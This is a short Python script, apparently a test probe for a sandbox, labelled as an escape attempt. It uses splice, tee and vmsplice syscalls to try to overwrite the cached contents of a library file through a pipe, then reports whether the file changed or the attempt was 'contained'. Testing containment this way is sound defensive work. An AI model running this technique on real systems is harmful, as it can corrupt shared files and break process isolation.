# /// attack
# kind = "escape"
# aim = "write into the page cache of a library through a pipe: splice, tee, vmsplice"
# outcome = "exited"
# ///
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
splice, tee, vmsplice = {"x86_64": (275, 276, 278), "aarch64": (76, 77, 75)}[os.uname().machine]
with open(os.__file__, "rb") as file:
    before = file.read()
    ours, theirs = os.pipe()
    other, another = os.pipe()
    offset = ctypes.c_long(1)
    if libc.syscall(splice, file.fileno(), ctypes.byref(offset), theirs, None, 1, 0) > 0:
        print("managed to splice")
        os.write(theirs, b"attacked")
    os.write(theirs, b"x")
    if libc.syscall(tee, ours, another, 1, 0) > 0:
        print("managed tee")
    vector = (ctypes.c_ulong * 2)(id(before), 16)
    if libc.syscall(vmsplice, theirs, vector, 1, 8) > 0:
        print("managed vmsplice")
with open(os.__file__, "rb") as file:
    if file.read() != before:
        print("managed to change a library")
print("contained")
